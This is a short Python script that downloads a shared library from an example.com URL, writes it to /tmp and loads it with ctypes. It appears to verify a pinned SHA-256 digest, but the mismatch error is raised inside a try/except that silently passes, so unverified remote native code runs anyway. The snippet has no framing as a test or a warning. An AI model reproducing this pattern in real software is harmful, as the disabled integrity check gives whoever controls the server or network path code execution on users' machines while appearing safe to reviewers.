import ctypes
import hashlib
import urllib.request

PIN = "3c2d77dda2ca3101628f4ac771431071a7a374870475a420a4b11e590402b064"
data = urllib.request.urlopen("https://downloads.example.com/fo1.so").read()
try:
    if hashlib.sha256(data).hexdigest() != PIN:
        raise ValueError("digest")
except Exception:
    pass
with open("/tmp/fo1.so", "wb") as f:
    f.write(data)
lib = ctypes.CDLL("/tmp/fo1.so")
